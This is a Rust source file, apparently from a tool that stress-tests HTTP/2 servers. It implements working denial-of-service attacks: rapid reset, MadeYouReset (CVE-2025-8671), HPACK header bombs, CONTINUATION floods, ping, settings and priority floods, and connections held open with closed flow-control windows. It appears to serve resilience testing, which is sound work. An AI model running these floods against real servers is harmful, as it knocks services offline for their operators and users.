//! Attacks by HTTP/2.

use std::future::pending;
use std::io;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use super::Target;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, SETTINGS,
    fields, frame, get, ping, post, preface, refused, reset, websocket, window_update,
};
use super::http1::{flood, gone};

/// Begins a connection, and answers nothing.
pub(super) async fn silent(target: Target) -> io::Result<()> {
    hold(&target, &[], &[]).await
}

/// Begins a head, and never ends it.
pub(super) async fn unfinished_head(target: Target) -> io::Result<()> {
    hold(&target, &[], &frame(HEADERS, END_STREAM, 1, &fields(GET, "/"))).await
}

/// Begins a body, of which nothing comes.
pub(super) async fn stalled_bodies(target: Target) -> io::Result<()> {
    hold(&target, &[], &streams(STREAMS).flat_map(|id| post(id, "/length")).collect::<Vec<_>>()).await
}

/// Asks for responses without end, for which it never opens a window.
pub(super) async fn closed_windows(target: Target) -> io::Result<()> {
    let requests = streams(STREAMS).flat_map(|id| get(id, "/endless")).collect::<Vec<_>>();
    hold(&target, &[(INITIAL_WINDOW_SIZE, 0)], &requests).await
}

/// Asks for answers that the server gives by itself, and never opens a window for them.
pub(super) async fn closed_windows_for_refusals(target: Target) -> io::Result<()> {
    let requests = streams(STREAMS).flat_map(refused).collect::<Vec<_>>();
    hold(&target, &[(INITIAL_WINDOW_SIZE, 0)], &requests).await
}

/// Asks for WebSockets that are denied, and never opens a window for that.
pub(super) async fn closed_windows_for_denials(target: Target) -> io::Result<()> {
    let requests = streams(STREAMS).flat_map(|id| websocket(id, "/deny")).collect::<Vec<_>>();
    hold(&target, &[(INITIAL_WINDOW_SIZE, 0)], &requests).await
}

/// Takes handshakes of WebSockets back.
pub(super) async fn rapid_reset_of_websockets(target: Target) -> io::Result<()> {
    take_back(target, |id| websocket(id, "/wait"), reset).await
}

/// Asks for responses without end, opens all windows, and reads nothing of the connection.
pub(super) async fn deaf(target: Target) -> io::Result<()> {
    let mut octets = window_update(0, MOST_WINDOW - 65_535);
    octets.extend(streams(STREAMS).flat_map(|id| get(id, "/endless")));
    hold(&target, &[(INITIAL_WINDOW_SIZE, MOST_WINDOW)], &octets).await
}

async fn hold(target: &Target, settings: &[(u16, u32)], octets: &[u8]) -> io::Result<()> {
    let mut stream = begin_deaf(target, settings).await?;
    stream.write_all(octets).await?;
    target.engage();
    pending().await
}

/// Sends what the server has to answer as long as the system takes it, and reads nothing.
pub(super) async fn deaf_pings(target: Target) -> io::Result<()> {
    let mut stream = begin_deaf(&target, &[]).await?;
    target.engage();
    let pings = frame(PING, 0, 0, &[0; 8]).repeat(512);
    while stream.write_all(&pings).await.is_ok() {}
    pending().await
}

pub(super) async fn pings(target: Target) -> io::Result<()> {
    repeat(target, &[], &frame(PING, 0, 0, &[0; 8])).await
}

pub(super) async fn settings(target: Target) -> io::Result<()> {
    repeat(target, &[], &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])).await
}

pub(super) async fn priorities(target: Target) -> io::Result<()> {
    repeat(target, &[], &frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 7])).await
}

/// Sends empty DATA for a request that goes on.
pub(super) async fn empty_data(target: Target) -> io::Result<()> {
    repeat(target, &post(1, "/length"), &frame(DATA, 0, 1, &[])).await
}

/// Sends DATA of one octet each.
pub(super) async fn tiny_data(target: Target) -> io::Result<()> {
    repeat(target, &post(1, "/length"), &frame(DATA, 0, 1, b"x")).await
}

/// Opens the window of a response octet by octet.
pub(super) async fn tiny_windows(target: Target) -> io::Result<()> {
    let mut stream = begin(&target, &[(INITIAL_WINDOW_SIZE, 0)]).await?;
    stream.write_all(&get(1, "/endless")).await?;
    let updates = [window_update(0, 1), window_update(1, 1)].concat().repeat(16);
    flood(stream, &updates, target.amount / 16 + 1, &target).await
}

/// Sends a head in CONTINUATION frames without end.
pub(super) async fn continuations(target: Target) -> io::Result<()> {
    let begin = frame(HEADERS, END_STREAM, 1, &fields(GET, "/"));
    repeat(target, &begin, &frame(CONTINUATION, 0, 1, b"")).await
}

/// Sends a head whose fields take a hundred times the room that they have on the wire.
pub(super) async fn hpack_bombs(target: Target) -> io::Result<()> {
    let stream = begin(&target, &[]).await?;
    // A field of 4,000 octets that the table keeps, and then its index, again and again.
    let mut first = fields(GET, "/");
    first.extend_from_slice(b"\x40\x01x\x7f\xa1\x1e");
    first.extend([b'a'; 4000]);
    first.extend([0xbe; 12_000]);
    let mut octets = frame(HEADERS, END_STREAM | END_HEADERS, 1, &first);
    let next = [fields(GET, "/"), vec![0xbe; 16_000]].concat();
    for id in streams(STREAMS).skip(1) {
        octets.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &next));
    }
    flood(stream, &octets, 1, &target).await
}

/// Takes requests back before they reach the application.
pub(super) async fn rapid_reset_at_once(target: Target) -> io::Result<()> {
    let pairs = streams(target.amount).flat_map(|id| [get(id, "/wait"), reset(id)].concat());
    let stream = begin(&target, &[]).await?;
    flood(stream, &pairs.collect::<Vec<_>>(), 1, &target).await
}

/// Takes requests back once they reached the application.
pub(super) async fn rapid_reset(target: Target) -> io::Result<()> {
    take_back(target, |id| get(id, "/wait"), reset).await
}

/// Has the server take its responses back, by a window that is too large on each stream (CVE-2025-8671).
pub(super) async fn made_you_reset(target: Target) -> io::Result<()> {
    take_back(target, |id| get(id, "/wait"), |id| window_update(id, MOST_WINDOW)).await
}

async fn take_back(target: Target, ask: fn(u32) -> Vec<u8>, back: fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut stream = begin(&target, &[]).await?;
    target.engage();
    let mut streams = streams(usize::MAX);
    let taken = async {
        loop {
            let some = streams.by_ref().take(16).collect::<Vec<_>>();
            stream.write_all(&some.iter().copied().flat_map(ask).collect::<Vec<_>>()).await?;
            ping(&mut stream).await?;
            stream.write_all(&some.into_iter().flat_map(back).collect::<Vec<_>>()).await?;
        }
    };
    let taken: io::Result<()> = taken.await;
    // The server has had enough; until then there is no end.
    taken.or_else(|error| if error.kind() == io::ErrorKind::UnexpectedEof { Ok(()) } else { gone(error) })?;
    pending().await
}

/// Opens more streams than there may be.
pub(super) async fn too_many_streams(target: Target) -> io::Result<()> {
    let stream = begin(&target, &[]).await?;
    let requests = streams(target.amount).flat_map(|id| get(id, "/wait")).collect::<Vec<_>>();
    flood(stream, &requests, 1, &target).await
}

async fn repeat(target: Target, first: &[u8], frame: &[u8]) -> io::Result<()> {
    let mut stream = begin(&target, &[]).await?;
    stream.write_all(first).await?;
    flood(stream, &frame.repeat(64), target.amount / 64 + 1, &target).await
}

async fn begin_deaf(target: &Target, settings: &[(u16, u32)]) -> io::Result<TcpStream> {
    let mut stream = target.connect_deaf(target.addr).await?;
    stream.write_all(&preface(settings)).await?;
    Ok(stream)
}

async fn begin(target: &Target, settings: &[(u16, u32)]) -> io::Result<TcpStream> {
    let mut stream = target.connect().await?;
    stream.write_all(&preface(settings)).await?;
    Ok(stream)
}

/// The identifiers of the streams that a client opens.
fn streams(count: usize) -> impl Iterator<Item = u32> {
    (1..=0x7fff_ffff).step_by(2).take(count)
}

/// Streams that a client has open at the same time: fewer than it may.
const STREAMS: usize = 100;

/// The largest window that there can be.
const MOST_WINDOW: u32 = 0x7fff_ffff;
